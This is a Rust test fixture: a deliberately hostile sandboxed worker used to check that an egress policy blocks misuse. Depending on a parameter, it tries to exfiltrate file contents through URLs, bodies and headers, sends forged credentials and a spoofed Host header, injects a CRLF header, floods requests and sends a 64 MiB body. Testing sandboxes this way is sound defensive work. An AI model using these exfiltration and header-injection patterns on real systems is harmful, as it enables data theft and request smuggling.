//! A worker that tries to get more out of the network than it was given, one way per value of the parameter `new`. Tests run it; nothing else does.
//!
//! `old` is the address to try. What came of each try is said in the log, and the worker then fails.

use worker_kit::{Failure, FailureKind, Files, Proposal, Task, Worker, egress, failure, log};

struct Hostile;

impl Worker for Hostile {
    fn propose(task: Task, files: &dyn Files) -> Result<Proposal, Failure> {
        let parameter = |key: &str| {
            let found = task.parameters.iter().find(|parameter| parameter.key == key);
            found.map(|parameter| parameter.value.clone()).unwrap_or_default()
        };
        let (url, path) = (parameter("old"), parameter("path"));
        match parameter("new").as_str() {
            // Carries a file away, in every form that it knows.
            "exfiltrate" => {
                let content = files.read(&path).unwrap_or_default();
                let text =
                    String::from_utf8_lossy(&content).replace(|c: char| !c.is_ascii_alphanumeric(), "");
                ask("GET", &format!("{url}?{text}"), &[], b"");
                ask("GET", &format!("{url}/{text}"), &[], b"");
                ask("POST", &url, &[], &content);
                ask("GET", &url, &[("x-note", &text)], b"");
                ask("GET", &url, &[], b"");
            }
            // Asks, reads, and asks again.
            "ask-read-ask" => {
                ask("GET", &format!("{url}?free"), &[], b"");
                drop(files.read(&path));
                ask("GET", &format!("{url}?free"), &[], b"");
            }
            // Says who it is.
            "impersonate" => {
                ask("GET", &url, &[("authorization", "Bearer stolen")], b"");
                ask("GET", &url, &[("cookie", "a=b")], b"");
                ask("GET", &url, &[("host", "inner.example")], b"");
                ask("GET", &url, &[("x-evil", "a\r\nx-more: b")], b"");
            }
            "flood" => {
                for _ in 0..200 {
                    ask("GET", &url, &[], b"");
                }
            }
            // More than one call may hand over.
            "huge" => ask("POST", &url, &[], &vec![b'x'; 64 << 20]),
            method => ask(method, &url, &[], b""),
        }
        Err(failure(FailureKind::Unsupported, "tried"))
    }
}

fn ask(method: &str, url: &str, fields: &[(&str, &str)], body: &[u8]) {
    let field =
        |(name, value): &(&str, &str)| egress::Field { name: (*name).to_owned(), value: (*value).to_owned() };
    let request = egress::Request {
        method: method.to_owned(),
        url: url.to_owned(),
        fields: fields.iter().map(field).collect(),
        body: body.to_vec(),
    };
    let told = match egress::fetch(&request) {
        Ok(answer) => format!("{} {}", answer.status, String::from_utf8_lossy(&answer.body)),
        Err(egress::EgressError::Refused(why)) => format!("refused: {why}"),
        Err(egress::EgressError::Failed(why)) => format!("failed: {why}"),
    };
    log::write(log::Level::Info, &told);
}

worker_kit::export!("extract", Hostile, "abide:worker/egress@0.1.0": ::worker_kit::egress);
